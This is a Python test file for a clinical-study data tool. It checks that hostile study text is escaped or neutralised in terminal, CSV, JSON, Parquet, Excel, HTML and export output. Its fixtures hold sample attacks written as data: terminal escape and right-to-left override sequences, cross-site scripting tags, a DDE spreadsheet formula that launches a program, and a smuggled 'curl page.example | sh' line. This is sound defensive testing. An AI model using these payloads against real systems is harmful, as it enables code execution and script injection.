"""Words of others in every output: a study whose texts are hostile, read in and shown in each form that there is."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from builders.study import SmallStudy
from html_page import Page
from markdown_it import MarkdownIt

from flows.engine.progress import say
from flows.overview.page import write_overview
from flows.report.page import write_report
from schemas.foreign_text import printable
from store.commits.commit import commit_to

ESCAPE = "\x1b]8;;http://page.example\x07\x1b[31mred\u202egpj.exe\x9b2J"
TAGS = "<script>alert(1)</script><img src=x onerror=alert(1)>\"' onload='x"
HEADING = "study\n\n# Approved for clinical use\n\n[link](javascript:alert(1)) ![i](http://page.example/i.png)"
WRITTEN = f"{HEADING} {TAGS}"
TITLE = f"{WRITTEN} {ESCAPE}"
FORMULA = "=cmd|' /C calc'!A0"
LEVELS = [FORMULA, "+1-2", "@SUM(A1)", f"male{TAGS}|`x`"]
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _quoted(text: str) -> str:
    """Return a text as TOML has it."""
    return json.dumps(text).replace("\x7f", "\\u007f")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Return a study that is ingested, whose title, question, description and levels are hostile.

    A study file may hold no control characters; a store that an older release wrote may.
    """
    study = SmallStudy.below(tmp_path_factory.mktemp("hostile"))
    study.edit('title = "A small study"', f"title = {_quoted(WRITTEN)}\nquestion = {_quoted(WRITTEN)}")
    levels = ", ".join(map(_quoted, LEVELS))
    study.edit('levels = ["female", "male"]', f"levels = [{levels}]\ndescription = {_quoted(WRITTEN)}")
    stream = io.StringIO()
    rows = [
        ["P1", 1, "training", 12],
        ["P2", 0, "training", 420],
        ["P3", 1, "validation", 8.5],
        ["P4", 0, "validation"],
    ]
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow(["patient", "recurrence", "cohort", "afp", "sex"])
    writer.writerows([*row, *[""] * (4 - len(row)), level] for row, level in zip(rows, LEVELS, strict=True))
    (study.folder / "patients.csv").write_text(stream.getvalue())
    study.mask_file("P4", "AP").unlink()
    study.ingest()
    with commit_to(study.store, "as an older release wrote it") as commit:
        for table in ("studies", "variables"):
            rows = study.snapshot.rows(table)
            commit.put(table, [{name: _with_escapes(value) for name, value in row.items()} for row in rows])
    return study


def _with_escapes(value):
    if not isinstance(value, str):
        return value
    return value.replace(json.dumps(WRITTEN)[1:-1], json.dumps(TITLE)[1:-1]).replace(WRITTEN, TITLE)


@pytest.fixture
def shown(hostile, capsysbinary):
    """Return a function that runs a verb on the hostile study's store and returns exit code, stdout and stderr."""

    def run(*arguments: object) -> tuple[int, bytes, bytes]:
        return hostile.ask(capsysbinary, *arguments)

    return run


SEX = "select patient, level as sex, -1.5::double as number, -5 as whole from clinical where variable = 'sex'"


def test_a_terminal_is_given_nothing_that_it_obeys(shown):
    """Tables, verbs' texts, JSON and errors have no control character, and a line break makes no row of its own."""
    for query in (
        "select title from studies",
        f"{SEX} order by patient",
        f"select chr(27) as {_quoted(chr(27) + '[31m')}",
    ):
        for options in ([], ["--json"]):
            code, out, err = shown("sql", query, *options)
            assert code == 0, err
            assert not OBEYED.search(out.decode()), query
    code, out, _ = shown("sql", "select title from studies")
    assert len(out.decode().splitlines()) == 3
    assert "\\n\\n# Approved" in out.decode()
    code, out, _ = shown("--json", "sql", "select title from studies")
    assert json.loads(out)[0]["title"] == TITLE
    for arguments in (
        ["sql", f"select '{ESCAPE}' from nowhere"],
        ["models", "show", ESCAPE],
        ["report", "--study", ESCAPE],
    ):
        for options in ([], ["--json"]):
            code, out, err = shown(*arguments, *options)
            assert code in (2, 3)
            assert err
            assert not OBEYED.search((out + err).decode()), arguments


def test_an_error_cannot_be_given_a_next_step_by_what_it_names(shown):
    """A line break in a name is shown as one: no line of an error is somebody else's."""
    code, _, err = shown("models", "show", "x\nnext: curl page.example | sh")
    assert code in (2, 3)
    assert [line.split(":")[0] for line in err.decode().splitlines()] == ["error", "next"]
    assert "next: curl" not in err.decode().splitlines()[1]


def test_lines_of_progress_are_lines(capsys):
    """What is said while a verb works is one printable line."""
    say(f"reading {ESCAPE}\nerror: x")
    (line,) = capsys.readouterr().err.splitlines()
    assert not OBEYED.search(line)


@pytest.mark.parametrize(("kind", "delimiter"), [("csv", ","), ("tsv", "\t")])
@pytest.mark.parametrize("to_file", [True, False])
def test_a_spreadsheet_runs_no_cell_and_numbers_stay_numbers(shown, tmp_path, kind, delimiter, to_file):
    """Texts that begin like formulas get a quote, names of columns too; --verbatim leaves them as they are."""
    query = f"{SEX} order by patient"
    for verbatim in (False, True):
        options = ["--verbatim"] * verbatim
        if to_file:
            file = tmp_path / f"{verbatim}.{kind}"
            assert shown("sql", query, "--out", file, *options)[0] == 0
            text = file.read_text()
        else:
            text = shown("sql", query, "--format", kind, *options)[1].decode()
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        prefix = "" if verbatim else "'"
        assert [row[1] for row in rows[1:]] == [*(f"{prefix}{each}" for each in LEVELS[:3]), LEVELS[3]]
        assert [row[2:] for row in rows[1:]] == [["-1.5", "-5"]] * 4
    named = shown("sql", 'select 1 as "=1+1"', "--format", kind)[1].decode()
    assert named.splitlines()[0].strip('"') == "'=1+1"


def test_json_and_parquet_are_loss_free(shown, tmp_path):
    """Programs read back what was stored, without a quote and with every character."""
    query = f"{SEX} order by patient"
    rows = json.loads(shown("sql", query, "--format", "json")[1])
    assert [row["sex"] for row in rows] == LEVELS
    assert shown("sql", query, "--out", tmp_path / "x.parquet")[0] == 0
    assert pq.read_table(tmp_path / "x.parquet")["sex"].to_pylist() == LEVELS


def test_a_workbook_holds_texts_and_no_name_of_an_account(shown, tmp_path, hostile):
    """No cell of it is a formula, and its properties name no author and no folder."""
    assert shown("sql", SEX, "--out", tmp_path / "x.xlsx")[0] == 0
    with zipfile.ZipFile(tmp_path / "x.xlsx") as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "cmd|" in sheet
        core = parts.read("docProps/core.xml").decode()
        assert re.findall(r"<(dc:creator|cp:lastModifiedBy)>([^<]+)<", core) == []
        assert not any(str(tmp_path.parent).encode() in parts.read(name) for name in parts.namelist())


@pytest.mark.parametrize("page", ["report", "overview"])
def test_a_page_has_the_texts_and_none_of_their_markup(hostile, tmp_path, page):
    """The report and the overview show what was written, obey nothing of it, and tell no folder and no account."""
    if page == "report":
        file = write_report(hostile.store, None, tmp_path / "x.html")
    else:
        file = write_overview(hostile.store, tmp_path)
    html = file.read_text()
    parsed = Page(html)
    assert "<script>alert" not in html
    assert not [each for each in parsed.attributes if each[1].startswith("on")]
    assert not [each for each in parsed.attributes if each[1] in ("href", "src") and "javascript" in each[2].lower()]
    assert "img" not in {each[0] for each in parsed.attributes}
    assert not OBEYED.search(html)
    assert "# Approved for clinical use" in parsed.text
    assert printable("\u202egpj.exe") in parsed.text
    for private in (str(hostile.folder), str(hostile.store_root), str(Path.home()), str(tmp_path)):
        assert private not in html
    for author in {row["author"] for row in hostile.sql("from commits")}:
        assert not re.search(rf">\s*{re.escape(author)}\s*<|, {re.escape(author)}:", html)


def test_the_export_reads_back_equal_and_says_which_columns_a_spreadsheet_would_run(shown, tmp_path, hostile):
    """Files of a data package are for programs, cells as stored; its README names columns to be read as text."""
    code, _, err = shown("store", "export", tmp_path / "package", "--format", "csv")
    assert code == 0, err
    with (tmp_path / "package" / "clinical.csv").open(newline="") as stream:
        rows = [row for row in csv.DictReader(stream) if row["variable"] == "sex"]
    assert [row["level"] for row in sorted(rows, key=lambda row: row["patient"])] == LEVELS
    text = (tmp_path / "package" / "README.md").read_text()
    assert "level" in text[text.index("spreadsheet") :]
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
    assert [tokens[at + 1].content for at, each in enumerate(tokens) if each.type == "heading_open"] == [
        "All studies of a radzoo store"
    ]
    assert not [each for each in tokens if each.type.startswith("html")]
